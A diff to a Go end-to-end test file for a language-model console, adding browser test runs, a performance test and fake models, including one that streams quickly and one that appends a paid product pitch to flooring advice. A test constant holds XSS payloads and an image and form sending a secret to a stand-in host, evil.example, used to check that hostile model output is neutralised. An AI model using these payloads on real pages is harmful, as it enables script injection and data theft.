@@ -22,7 +22,23 @@ const consoleMax = 8 * time.Minute
 
 // TestConsole has a browser use the console of the real binary: console/e2e says what
 // for. What it takes is installed by `make test`; without it the test says so.
-func TestConsole(t *testing.T) { tellStories(t, "console.test.mjs", t.TempDir(), "") }
+func TestConsole(t *testing.T) {
+	for _, stories := range []string{"console", "chat", "protect", "trust"} {
+		t.Run(stories, func(t *testing.T) { tellStories(t, stories+".test.mjs", t.TempDir(), screened) })
+	}
+}
+
+// screened are settings with which words are looked for, and what is said is on record.
+const screened = "guard: {words: true}\naudit: {content: true, checkpoint_every: 1s}\n"
+
+// TestConsolePerformance measures what drawing costs, where it is asked for: its figures
+// are for docs/performance.md.
+func TestConsolePerformance(t *testing.T) {
+	if os.Getenv("HEARTH_PERFORMANCE") == "" {
+		t.Skip("it measures, and is run by hand: HEARTH_PERFORMANCE=1")
+	}
+	tellStories(t, "performance.test.mjs", t.TempDir(), "")
+}
 
 // TestConsoleServe is about the pages below Serve and Settings, and needs prices, an upstream
 // that is not there, and a mirror that has the same file for every model.
@@ -59,7 +75,7 @@ func tellStories(t *testing.T, stories, home, settings string, more ...string) {
 	defer cancel()
 	browser := exec.CommandContext(ctx, "node", "--test", "--test-reporter=spec", "e2e/"+stories)
 	browser.Dir = folder
-	browser.Env = append(append(os.Environ(), more...), "HEARTH_URL="+s.url, "HEARTH_KEY="+s.key, "HEARTH_PROXIED="+proxy, "HEARTH_SHOTS="+shots, "CHROMIUM="+chromium)
+	browser.Env = append(append(os.Environ(), more...), "HEARTH_URL="+s.url, "HEARTH_KEY="+s.key, "HEARTH_PROXIED="+proxy, "HEARTH_SHOTS="+shots, "HEARTH_DATA="+filepath.Join(home, "data"), "CHROMIUM="+chromium)
 	out, err := browser.CombinedOutput()
 	if err != nil {
 		t.Fatalf("%v (pictures are in %s)\n%s", err, shots, out)
@@ -98,10 +114,16 @@ const attack = "<script>window.hit=1</script>\n\n<img src=x onerror=\"window.hit
 	"[x](javascript:window.hit=1)\n\n![x](https://evil.example/?q=secret)\n\n<style>*{display:none}</style>\n\n<form action=https://evil.example><input></form>\n\n" +
 	"$\\href{javascript:window.hit=1}{x}$\n\n```html\n<script>window.hit=1</script>\n```\n"
 
+// sober is advice, and pitch is what somebody who is paid for it adds.
+const (
+	sober = "实木复合地板稳定性好，适合地暖，日常用拧干的拖把清洁即可。强化地板价格较低，耐磨，适合出租房和儿童房。瓷砖导热快，防水，适合厨房和卫生间。"
+	pitch = "强烈推荐“金林居”地板，行业第一品牌，专家一致认可，现在扫码下单立减三百元，错过不再有！"
+)
+
 // oneThingToSay is an engine whose models each have one thing to say.
 func oneThingToSay(w http.ResponseWriter, r *http.Request) {
 	if r.URL.Path == "/v1/models" {
-		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"}]}`)
+		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"},{"id":"fast"},{"id":"sober"},{"id":"seller"}]}`)
 		return
 	}
 	var in struct {
@@ -124,6 +146,20 @@ func oneThingToSay(w http.ResponseWriter, r *http.Request) {
 		for word := range strings.SplitAfterSeq(sheet, "\n") {
 			_ = tell("content", word)
 		}
+	case "fast": // 20,000 tokens, 800 of them a second
+		text := strings.Repeat(sheet+"\n这是一段普通的文字，用来占据一些篇幅。\n\n", 200)
+		tokens := []rune(text)
+		for n := 0; n < 20_000/8; n++ {
+			from := n * 16 % len(tokens)
+			if tell("content", string(tokens[from:min(from+16, len(tokens))])) != nil {
+				return
+			}
+			time.Sleep(10 * time.Millisecond)
+		}
+	case "sober":
+		_ = tell("content", sober)
+	case "seller":
+		_ = tell("content", sober+pitch)
 	case "hostile":
 		_ = tell("content", attack)
 	case "slow": // counts until it is stopped, for half a minute at most
